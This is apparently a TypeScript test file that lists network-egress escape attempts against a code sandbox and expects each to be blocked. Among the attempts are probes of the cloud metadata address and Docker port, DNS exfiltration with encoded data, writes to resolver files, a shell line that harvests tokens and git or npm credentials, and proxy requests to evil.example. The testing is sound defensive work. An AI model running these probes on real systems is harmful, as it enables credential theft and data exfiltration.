import { connect } from "node:net";
import { expect } from "vitest";
import { freePort } from "../../world/free-port.ts";
import { type Attack, node, shell } from "./attack.ts";
import { machineState } from "./host.ts";

// Says WON and what was reached; nothing else ever is.
const REACH = `
const net = require("node:net"), dgram = require("node:dgram"), dns = require("node:dns");
const hosts = process.argv.slice(1);
const tcp = (host, port) => new Promise((done) => {
  const socket = net.connect({ host, port, timeout: 2000 }, () => done("WON tcp " + host + ":" + port));
  for (const event of ["error", "timeout"]) socket.on(event, () => { socket.destroy(); done("none"); });
});
const udp = (host) => new Promise((done) => {
  const socket = dgram.createSocket(host.includes(":") ? "udp6" : "udp4");
  socket.on("error", () => done("none"));
  socket.send("x", 53, host, (error) => { socket.close(); done(error ? "none" : "WON udp " + host); });
});
Promise.all(hosts.flatMap((host) => [tcp(host, 80), tcp(host, 443), tcp(host, 2375), udp(host)])).then((seen) => {
  console.log([...new Set(seen)].join());
  process.exit(0);
});`;

const PLACES = [
  "1.1.1.1",
  "169.254.169.254",
  "172.17.0.1",
  "172.17.0.2",
  "10.0.0.1",
  "192.168.0.1",
  "100.64.0.1",
  "2606:4700:4700::1111",
  "fd00:ec2::254",
  "fe80::1",
];

/** The network. */
export const ATTACKS_C: readonly Attack[] = [
  {
    id: "C1",
    what: "the internet, the cloud's metadata, gateways, other containers, by either protocol",
    attempt: [...node(REACH), ...PLACES],
    gets: "none\n",
  },
  {
    id: "C1",
    what: "an echo of anything",
    attempt: [
      "perl",
      "-MSocket",
      "-e",
      `my $sent = socket(my $s, PF_INET, SOCK_DGRAM, 1) && send($s, pack("C2n3", 8, 0, 0xf7ff, 0, 0), 0, pack_sockaddr_in(0, inet_aton("1.1.1.1")));
       print $sent ? "WON" : "none";`,
    ],
    gets: "none",
  },
  {
    id: "C1",
    what: "a listener that the host could meet",
    stage: async ({ open, mark }) => {
      const port = await freePort();
      await using session = await open();
      const listen = `require("net").createServer((s) => s.end("${mark}")).listen(${port}, "0.0.0.0");
        require("net").createServer().listen("\\0${mark}", () => console.log("listening"));`;
      const running = session.run(node(listen), {
        timeoutMs: 8_000,
        onOutput: (text) => text.includes("listening") && heard.resolve(true),
      });
      const heard = Promise.withResolvers<boolean>();
      await Promise.race([heard.promise, running]);
      const met = await answerOf(port);
      const { sockets } = machineState(mark);
      await session[Symbol.asyncDispose]();
      await running.catch(() => undefined);
      return { met: met.includes(mark), sockets };
    },
    comes: { met: false, sockets: false },
  },
  {
    id: "C2",
    what: "the name service, with data in the names",
    attempt: node(
      `const dns = require("node:dns/promises"), { Resolver } = dns;
       const own = new Resolver({ timeout: 1000, tries: 1 }); own.setServers(["8.8.8.8", "172.17.0.1"]);
       const name = "c2VjcmV0.example.com";
       Promise.allSettled([dns.lookup(name), dns.resolve(name), own.resolveTxt(name)]).then((all) => {
         console.log(all.map(({ status }) => status).join()); process.exit(0); })`,
    ),
    gets: "rejected,rejected,rejected\n",
  },
  {
    id: "C2",
    what: "a name service of one's own, by the files of the image",
    attempt: shell(
      "for f in /etc/resolv.conf /etc/hosts /etc/nsswitch.conf; do { echo x >> $f; } 2>/dev/null && echo WON $f; done; exit 0",
    ),
    gets: "",
  },
  {
    id: "C3",
    what: "the proxy: other names, addresses, ports, smuggling, rebinding",
    provenIn: "test/sandbox/egress/way-out.test.ts",
  },
  {
    id: "C4",
    what: "a proxy that is stopped, a socket that is replaced",
    provenIn: "test/sandbox/egress/way-out.test.ts",
  },
  {
    id: "C5",
    what: "credentials to publish with",
    attempt: shell(
      `env | grep -iE 'token|auth|passw|secret|cookie|registry'; find "$HOME" -mindepth 1
       npm config get //registry.npmjs.org/:_authToken 2>/dev/null | grep -v -e undefined -e protected
       git config --list --show-origin | grep -iE 'credential|extraheader|insteadof|remote'; exit 0`,
    ),
    gets: "",
  },
  {
    id: "C6",
    what: "a network that was only said to be closed",
    provenIn: "test/sandbox/egress/way-out.test.ts",
  },
  {
    id: "C6",
    what: "a way out that the operator has not allowed",
    stage: async ({ open, errorOf }) =>
      await errorOf(() => open("c6", { network: ["evil.example"] })),
    comes: "sandbox.not-allowed",
  },
  {
    id: "C6",
    what: "other hosts, by a way out that the operator has allowed",
    stage: async ({ open, errorOf }) => {
      const program = `require("http").get({ host: "127.0.0.1", port: 3128, path: "http://evil.example/" }, (answer) => {
        console.log(answer.statusCode); answer.pipe(process.stdout); })`;
      let output: string | undefined;
      const error = await errorOf(async () => {
        await using session = await open("c6", { network: ["allowed.example"] });
        ({ output } = await session.run(node(program)));
      });
      return [output, error];
    },
    comes: [expect.stringMatching(/^403\s[\s\S]*Nexus policy/), "no error"],
    onGvisor: {
      comes: [undefined, "sandbox.not-allowed"],
      because: "nobody can share gVisor's network, so there is no way out at all",
    },
  },
];

async function answerOf(port: number): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>();
  const socket = connect(port, "127.0.0.1");
  let answer = "";
  socket.on("data", (data) => {
    answer += data.toString();
  });
  for (const event of ["error", "close", "timeout"] as const)
    socket.on(event, () => resolve(answer));
  socket.setTimeout(5_000);
  return await promise;
}
